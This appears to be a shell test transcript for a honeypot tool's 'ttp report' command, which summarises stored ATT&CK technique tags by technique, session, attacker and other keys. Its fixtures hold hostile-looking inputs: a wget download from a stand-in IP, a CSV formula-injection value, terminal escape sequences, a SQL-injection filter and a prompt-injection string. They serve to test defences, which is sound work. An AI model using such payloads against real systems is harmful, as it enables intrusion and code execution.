Reports on a database of tags.

Three rules, one of two techniques and one of another matrix; the events of four attackers on three days, one of
them hostile:

    $ cat > rule <<'X'
    > printf 'rule_id: %s\nrule_version: 1\nname: %s\napplies_to: [command]\nmatch: {pattern: "\\\\b%s\\\\b"}\nemits: [%s]\nevidence_fields: [command_text]\n' "$@" > rules/$1.yaml
    > X
    $ cat > event <<'X'
    > printf '{"source_kind":"command","source_id":"%s","attacker_uuid":"%s","session_id":%s,"decky_id":"%s","ts":"2026-11-07T10:00:00Z","payload":{"command_text":"%s"}}\n' "$@"
    > X
    $ mkdir rules; bash rule R1 download wget '{tactic: TA0011, technique_id: T1105, confidence: 0.85}'
    $ bash rule R2 shell sh '{tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.5}, {tactic: TA0003, technique_id: T1546, sub_technique_id: T1546.004, confidence: 0.4}'
    $ bash rule R3 prompt ignore '{tactic: AML.TA0005, technique_id: AML.T0051, confidence: 0.9}'
    $ bash event 1 a1 '"s1"' d1 'wget http://192.0.2.1/x' > 1.jsonl
    $ { bash event 2 a1 '"s1"' d1 'sh x'; bash event 3 a2 '"s2"' d2 'wget x; sh x'; bash event 4 a3 null d2 'wget é'; bash event 5 a3 '"s3"' d1 'ignore this'; } > 2.jsonl
    $ bash event 6 '=cmd|calc!A1' '"\u001b[31mred\u009b\u202e,\"\n"' '-1+1' 'wget \u001b]0;x\u0007' > 3.jsonl
    $ for i in 1 2 3; do ttp replay $i.jsonl --rules rules --tags-db decnet.db --now 2026-11-0$i -q; done > replayed.jsonl; wc -l < replayed.jsonl
    9

The verb sums up what is stored, by technique if not told otherwise; on a terminal it is a table, elsewhere JSON:

    $ ttp report
    ttp: tags of the database 'decnet.db'
    [
    {"technique":"T1105","name":"Ingress Tool Transfer","tags":4,"events":4,"sessions":3,"attackers":4,"max_confidence":0.85,"first_stored":"2026-11-01T00:00:00Z","last_stored":"2026-11-03T00:00:00Z"},
    {"technique":"T1059.004","name":"Unix Shell","tags":2,"events":2,"sessions":2,"attackers":2,"max_confidence":0.5,"first_stored":"2026-11-02T00:00:00Z","last_stored":"2026-11-02T00:00:00Z"},
    {"technique":"T1546.004","name":"Unix Shell Configuration Modification","tags":2,"events":2,"sessions":2,"attackers":2,"max_confidence":0.4,"first_stored":"2026-11-02T00:00:00Z","last_stored":"2026-11-02T00:00:00Z"},
    {"technique":"AML.T0051","name":"LLM Prompt Injection","tags":1,"events":1,"sessions":1,"attackers":1,"max_confidence":0.9,"first_stored":"2026-11-02T00:00:00Z","last_stored":"2026-11-02T00:00:00Z"}
    ]
    $ ttp report --output table -q --limit 2
    TECHNIQUE  TAGS  EVENTS  SESSIONS  ATTACKERS  CONF  FIRST STORED      LAST STORED       NAME
    T1105         4       4         3          4  0.85  2026-11-01T00:00  2026-11-03T00:00  Ingress Tool Transfer
    T1059.004     2       2         2          2  0.50  2026-11-02T00:00  2026-11-02T00:00  Unix Shell
    … and 2 more techniques (--limit 0 shows all)
    
    9 tags of 6 events; 4 sessions, 4 attackers
    $ ttp report --output table -q --by session --limit 0
    SESSION                    TAGS  EVENTS  SESSIONS  ATTACKERS  CONF  FIRST STORED      LAST STORED
    s1                            3       2         1          1  0.85  2026-11-01T00:00  2026-11-02T00:00
    s2                            3       1         1          1  0.85  2026-11-02T00:00  2026-11-02T00:00
    (none)                        1       1         0          1  0.85  2026-11-02T00:00  2026-11-02T00:00
    \x1b[31mred\x9b\u202e,"\n     1       1         1          1  0.85  2026-11-03T00:00  2026-11-03T00:00
    s3                            1       1         1          1  0.90  2026-11-02T00:00  2026-11-02T00:00
    
    9 tags of 6 events; 4 sessions, 4 attackers
    $ script -qec 'stty cols 80; ttp report -q' /dev/null | tr -d '\r'
    TECHNIQUE  TAGS  EVENTS  SESSIONS  ATTACKERS  CONF  NAME
    T1105         4       4         3          4  0.85  Ingress Tool Transfer
    T1059.004     2       2         2          2  0.50  Unix Shell
    T1546.004     2       2         2          2  0.40  Unix Shell Configuration Mo…
    AML.T0051     1       1         1          1  0.90  LLM Prompt Injection
    
    9 tags of 6 events; 4 sessions, 4 attackers
    $ script -qec 'stty cols 120; ttp report -q --by decoy' /dev/null | tr -d '\r'
    DECOY  TAGS  EVENTS  SESSIONS  ATTACKERS  CONF  FIRST STORED      LAST STORED
    d1        4       3         2          2  0.90  2026-11-01T00:00  2026-11-02T00:00
    d2        4       2         1          2  0.85  2026-11-02T00:00  2026-11-02T00:00
    -1+1      1       1         1          1  0.85  2026-11-03T00:00  2026-11-03T00:00
    
    9 tags of 6 events; 4 sessions, 4 attackers

Every way to sum up agrees with a count that another program makes:

    $ cat > count.py <<'X'
    > import json, sqlite3, subprocess, sys
    > keys = {'technique': lambda t: t['sub_technique_id'] or t['technique_id'], 'tactic': lambda t: t['tactic'],
    >         'rule': lambda t: t['rule_id'], 'attacker': lambda t: t['attacker_uuid'],
    >         'session': lambda t: t['session_id'], 'source': lambda t: t['source_kind'],
    >         'decoy': lambda t: t['decky_id'], 'day': lambda t: t['created_at'][:10]}
    > db = sqlite3.connect(sys.argv[1])
    > db.row_factory = sqlite3.Row
    > tags = [t for t in db.execute('SELECT * FROM ttp_tag')]
    > for by, key in keys.items():
    >     sums = {}
    >     for t in tags: sums.setdefault(key(t), []).append(t)
    >     def distinct(ts, *columns): return len({tuple(t[c] for c in columns) for t in ts if t[columns[0]] is not None})
    >     want = [(k, len(ts), distinct(ts, 'source_kind', 'source_id'), distinct(ts, 'session_id'),
    >              distinct(ts, 'attacker_uuid'), max(t['confidence'] for t in ts),
    >              min(t['created_at'] for t in ts)[:10], max(t['created_at'] for t in ts)[:10]) for k, ts in sums.items()]
    >     want.sort(key=lambda r: (-r[1], r[0] is not None, (r[0] or '').encode()))
    >     rows = json.loads(subprocess.run(['ttp', 'report', '-q', '--db', sys.argv[1], '--by', by], stdout=subprocess.PIPE, check=True).stdout)
    >     got = [(r[by], r['tags'], r['events'], r['sessions'], r['attackers'], r['max_confidence'],
    >             r['first_stored'][:10], r['last_stored'][:10]) for r in rows]
    >     print(by, len(got), 'same' if got == want else (got, want))
    > X
    $ python3 count.py decnet.db
    technique 4 same
    tactic 4 same
    rule 3 same
    attacker 4 same
    session 5 same
    source 1 same
    decoy 3 same
    day 3 same
    $ ttp replay $TESTS/sample/cowrie.jsonl --rules $RULES --tags-db sample.db -q > sample.jsonl; python3 count.py sample.db
    technique 38 same
    tactic 11 same
    rule 56 same
    attacker 6 same
    session 6 same
    source 4 same
    decoy 2 same
    day 1 same

Names come from the catalogue, those of rules from a pack where there is one:

    $ ttp report -q --by tactic | grep -o '"tactic.*"name":[^,]*'
    "tactic":"TA0011","name":"Command and Control"
    "tactic":"TA0002","name":"Execution"
    "tactic":"TA0003","name":"Persistence"
    "tactic":"AML.TA0005","name":"Execution"
    $ ttp report -q --by rule --rules rules | grep -o '"rule.*"name":[^,]*'
    "rule":"R1","name":"download"
    "rule":"R2","name":"shell"
    "rule":"R3","name":"prompt"
    $ ttp report -q --by rule | grep -o '"rule.*"name":[^,]*' | head -1; ttp report -q --by day | grep -c '"name"'
    "rule":"R1","name":null
    0
    [1]
    $ ttp report -q --by rule --rules missing
    ttp: cannot read the rule directory 'missing': No such file or directory
    [2]

Filters; times are those at which tags were stored:

    $ for f in '' '--technique T1105' '--technique T1059' '--technique T1059.004,T1546' '--tactic TA0003' '--rule R1,R3' '--attacker a1' '--attacker a1 --attacker a2' '--session s2' '--source command' '--source all-of-it' '--kind command --session s1' '--min-confidence 0.6' '--since 2026-11-02' '--until 2026-11-02' '--since 2026-11-02 --until 2026-11-03' '--since-days 1 --now 2026-11-03T12:00:00Z' '--since-days 1 --now 2026-11-08' "--attacker x'OR'1'='1"; do echo "$f: $(ttp report -q --output jsonl $f | wc -l)"; done
    : 9
    --technique T1105: 4
    --technique T1059: 2
    --technique T1059.004,T1546: 4
    --tactic TA0003: 2
    --rule R1,R3: 5
    --attacker a1: 3
    --attacker a1 --attacker a2: 6
    --session s2: 3
    --source command: 9
    --source all-of-it: 0
    --kind command --session s1: 3
    --min-confidence 0.6: 5
    --since 2026-11-02: 8
    --until 2026-11-02: 1
    --since 2026-11-02 --until 2026-11-03: 7
    --since-days 1 --now 2026-11-03T12:00:00Z: 1
    --since-days 1 --now 2026-11-08: 0
    --attacker x'OR'1'='1: 0
    $ sqlite3 decnet.db .dump | sqlite3 kinds.db; sqlite3 kinds.db "UPDATE ttp_tag SET source_kind = 'canary_fingerprint' WHERE rule_id = 'R1'; UPDATE ttp_tag SET source_kind = 'auth_attempt', identity_uuid = 'i1', attacker_uuid = NULL WHERE rule_id = 'R3'"; for f in canary auth command canary,auth; do echo "$f: $(ttp report --db kinds.db -q --output jsonl --source $f | wc -l)"; done; ttp report --db kinds.db -q --attacker i1 --by attacker; ttp report --db kinds.db -q --by attacker --output csv | cut -d, -f1,2
    canary: 4
    auth: 1
    command: 4
    canary,auth: 5
    [
    {"attacker":null,"tags":1,"events":1,"sessions":1,"attackers":0,"max_confidence":0.9,"first_stored":"2026-11-02T00:00:00Z","last_stored":"2026-11-02T00:00:00Z"}
    ]
    attacker,tags
    a1,3
    a2,3
    ,1
    '=cmd|calc!A1,1
    a3,1

An address is the attacker that a log without uuids makes of it:

    $ ip=$(jq -r 'select(.session == "3f6c1a9be204") | .src_ip // empty' $TESTS/sample/cowrie.jsonl | head -1); ttp report --db sample.db -q --by session --attacker $ip | grep -o '"session":"[^"]*","tags":[0-9]*'
    "session":"3f6c1a9be204","tags":27

JSON lines are what replay writes but for the time of the event, which the table has not, and in the order of the ids:

    $ ttp report -q --output jsonl | head -1
    {"uuid":"02eea520-5c5b-5ff5-a0b9-aa389118e9a9","source_kind":"command","source_id":"2","attacker_uuid":"a1","identity_uuid":null,"session_id":"s1","decky_id":"d1","tactic":"TA0003","technique_id":"T1546","sub_technique_id":"T1546.004","confidence":0.4,"rule_id":"R2","rule_version":1,"evidence":{"command_text":"sh x"},"attack_release":"enterprise-v18.1","mitre_url":"https://attack.mitre.org/techniques/T1546/004","ts":null}
    $ same() { jq -csS 'map(select(.uuid) | .ts = null) | unique_by(.uuid)[]' $1 | sha256sum; }; ttp report -q --output jsonl > exported.jsonl; same exported.jsonl > 1; same replayed.jsonl > 2; cmp 1 2; ttp report --db sample.db -q --output jsonl > exported.jsonl; same exported.jsonl > 1; same sample.jsonl > 2; cmp 1 2; wc -l < exported.jsonl; cut -c1-50 exported.jsonl | sort -c
    135
    $ jq -r 'keys_unsorted | join(" ")' exported.jsonl | sort -u; head -1 sample.jsonl | jq -r 'keys_unsorted | join(" ")'
    uuid source_kind source_id attacker_uuid identity_uuid session_id decky_id tactic technique_id sub_technique_id confidence rule_id rule_version evidence attack_release mitre_url ts
    uuid source_kind source_id attacker_uuid identity_uuid session_id decky_id tactic technique_id sub_technique_id confidence rule_id rule_version evidence attack_release mitre_url ts

What is no tag is left out, counted, and decides the exit status:

    $ sqlite3 decnet.db .dump | sqlite3 odd.db; sqlite3 odd.db "UPDATE ttp_tag SET evidence = '{\"a\"' WHERE rule_id = 'R3'; UPDATE ttp_tag SET uuid = upper(uuid) WHERE source_id = '1'; UPDATE ttp_tag SET mitre_url = NULL, sub_technique_id = '', evidence = '{ \"a b\" : \"c \\\" : d\",  \"e\" : [ 1, 2.50 ] }', session_id = CAST(X'ff41' AS TEXT) WHERE tactic = 'TA0003' AND source_id = '2'"; ttp report --db odd.db --output jsonl > odd.jsonl; echo "status $?"; wc -l < odd.jsonl; jq -c 'select(.mitre_url == null)' odd.jsonl
    ttp: 1 row left out: the evidence is no JSON object
    ttp: 1 row left out: the uuid is none
    status 3
    7
    {"uuid":"02eea520-5c5b-5ff5-a0b9-aa389118e9a9","source_kind":"command","source_id":"2","attacker_uuid":"a1","identity_uuid":null,"session_id":"�A","decky_id":"d1","tactic":"TA0003","technique_id":"T1546","sub_technique_id":null,"confidence":0.4,"rule_id":"R2","rule_version":1,"evidence":{"a b":"c \" : d","e":[1,2.5]},"attack_release":"enterprise-v18.1","mitre_url":null,"ts":null}

A layer for the Navigator is that of replay:

    $ ttp report --output navigator > 1.json; ttp replay ?.jsonl --rules rules --output navigator --min-confidence 0.3 -q > 2.json; cmp 1.json 2.json && jq -c '.techniques[] | [.techniqueID, .tactic, .score, .showSubtechniques]' 1.json
    ttp: tags of the database 'decnet.db'
    ttp: 1 tag of other matrices than enterprise is not in the layer
    ["T1059","execution",null,true]
    ["T1059.004","execution",2,false]
    ["T1105","command-and-control",4,false]
    ["T1546","persistence",null,true]
    ["T1546.004","persistence",2,false]

A tag that was found twice is stored once, and counts once:

    $ cat 1.jsonl 1.jsonl | ttp replay --format event --rules rules --output navigator --tags-db twice.db -q | jq .gradient.maxValue; ttp report --db twice.db --output navigator -q | jq .gradient.maxValue
    2
    1

CSV: no formula, and nothing that breaks a row:

    $ ttp report -q --output csv --by attacker | tr '\r' '$'
    attacker,tags,events,sessions,attackers,max_confidence,first_stored,last_stored$
    a1,3,2,1,1,0.85,2026-11-01T00:00:00Z,2026-11-02T00:00:00Z$
    a2,3,1,1,1,0.85,2026-11-02T00:00:00Z,2026-11-02T00:00:00Z$
    a3,2,2,1,1,0.9,2026-11-02T00:00:00Z,2026-11-02T00:00:00Z$
    '=cmd|calc!A1,1,1,1,1,0.85,2026-11-03T00:00:00Z,2026-11-03T00:00:00Z$
    $ ttp report -q --output csv --by session | python3 -c 'import csv, sys; [print(row[:2]) for row in csv.reader(open(0, newline=""))]'
    ['session', 'tags']
    ['s1', '3']
    ['s2', '3']
    ['', '1']
    ['\x1b[31mred\x9b\u202e,"\n', '1']
    ['s3', '1']
    $ ttp report -q --output csv --by technique --technique T1105 | tr -d '\r'
    technique,name,tags,events,sessions,attackers,max_confidence,first_stored,last_stored
    T1105,Ingress Tool Transfer,4,4,3,4,0.85,2026-11-01T00:00:00Z,2026-11-03T00:00:00Z

Nothing hostile reaches a terminal, though it is in the files:

    $ ttp report -q --output csv --by session | LC_ALL=C grep -cP '\x1b.*\xc2\x9b\xe2\x80\xae'
    1
    $ for o in table json csv jsonl navigator; do for by in session attacker decoy; do b="--by $by"; [ $o = jsonl ] || [ $o = navigator ] && b=; script -qec "ttp report -q --color never --output $o $b" /dev/null > shown; LC_ALL=C grep -cP '\x1b|\x07|\xc2\x9b|\xe2\x80\xae' shown; done; done | sort | uniq -c | tr -s ' '
     15 0

The same database gives the same bytes; nothing is written to it:

    $ sha256sum decnet.db > 1; for o in table json csv jsonl navigator; do ttp report -q --output $o | sha256sum; ttp report -q --output $o | sha256sum; done | sort -u | wc -l; sha256sum decnet.db | cmp - 1
    5

Neither evidence nor a source's id is in a sum:

    $ for o in table json csv navigator; do ttp report -q --output $o | grep -c '192.0.2.1\|wget\|command_text'; done
    0
    0
    0
    0
    [1]

No tags:

    $ sqlite3 decnet.db .dump | sqlite3 empty.db; sqlite3 empty.db 'DELETE FROM ttp_tag'; for o in table json csv jsonl; do echo "$o:"; ttp report --db empty.db -q --output $o | tr -d '\r'; done; ttp report --db empty.db -q --output navigator | jq -c .techniques
    table:
    no tags
    json:
    [
    ]
    csv:
    technique,name,tags,events,sessions,attackers,max_confidence,first_stored,last_stored
    jsonl:
    []

Where the tags are, and what else may be there:

    $ ttp report --by tactic 2>&1 >/dev/null; ttp report --by tactic --db decnet.db 2>&1 >/dev/null; TTP_DB=sample.db ttp report 2>&1 >/dev/null
    ttp: tags of the database 'decnet.db'
    ttp: tags of the database 'sample.db'
    $ mkdir elsewhere; cd elsewhere; ttp report
    ttp: no database: give --db FILE, or set TTP_DB or DECNET_DB_PATH, or run where decnet.db is
    [2]
    $ ttp report --db missing.db; ls missing.db
    ttp: no such database: 'missing.db'
    ls: cannot access 'missing.db': No such file or directory
    [2]
    $ echo hello > text.db; ttp report --db text.db
    ttp: 'text.db' is not an SQLite database
    [2]
    $ : > nothing.db; ttp report --db nothing.db
    ttp: the database 'nothing.db' has no table 'ttp_tag'
    [2]
    $ sqlite3 bare.db 'CREATE TABLE ttp_tag (uuid, source_kind)'; ttp report --db bare.db
    ttp: the table 'ttp_tag' of 'bare.db' has no column 'source_id'
    [2]
    $ ttp report --db .
    ttp: '.' is not a database file
    [2]

Locked by another process:

    $ sqlite3 decnet.db .dump | sqlite3 lock.db; mkfifo hold; sqlite3 lock.db < hold & exec 3>hold; echo 'BEGIN EXCLUSIVE;' >&3; sleep 0.5; ttp report --db lock.db -q --busy-timeout 0; echo "status $?"; echo 'ROLLBACK;' >&3; exec 3>&-; wait; ttp report --db lock.db -q | wc -l
    ttp: the database 'lock.db' stayed locked by another process for 0 s (--busy-timeout); what was committed before is safe, run it again
    status 2
    6

A reader that goes away ends it quietly:

    $ sqlite3 decnet.db .dump | sqlite3 large.db; sqlite3 large.db "INSERT INTO ttp_tag SELECT printf('%08x-0000-5000-8000-000000000000', value), source_kind, source_id || value, attacker_uuid, identity_uuid, 's' || value, decky_id, tactic, technique_id, sub_technique_id, confidence, rule_id, rule_version, evidence, attack_release, mitre_url, created_at FROM generate_series(1, 20000), (SELECT * FROM ttp_tag LIMIT 1)"; for o in '--output jsonl' '--output json --by session' '--output csv --by session' '--output table --by session --limit 0'; do ttp report --db large.db -q $o | head -1 | wc -l; echo ${PIPESTATUS[0]}; done | sort | uniq -c | tr -s ' '
     4 0
     4 1

Usage:

    $ ttp report --db decnet.db --by country
    ttp: --by: country not in {technique,tactic,rule,attacker,session,source,decoy,day}
    Try 'ttp report --help'.
    [2]
    $ ttp report --db decnet.db --output yaml
    ttp: --output: yaml not in {table,json,csv,jsonl,navigator}
    Try 'ttp report --help'.
    [2]
    $ ttp report --db decnet.db --output jsonl --by rule
    ttp: --by is for sums; --output jsonl has none
    [2]
    $ ttp report --db decnet.db --output navigator --limit 3
    ttp: --limit is for sums; --output navigator has none
    [2]
    $ ttp report --db decnet.db --since 2026-11-01 --since-days 3
    ttp: --since excludes --since-days
    Try 'ttp report --help'.
    [2]
    $ ttp report --db decnet.db --limit -1
    ttp: --limit: '-1' is no whole number from 0 to 9007199254740992
    Try 'ttp report --help'.
    [2]
    $ ttp report --db decnet.db --shard 0/2
    ttp: The following arguments were not expected: 0/2 --shard
    Try 'ttp report --help'.
    [2]
    $ ttp report decnet.db
    ttp: The following argument was not expected: decnet.db
    Try 'ttp report --help'.
    [2]
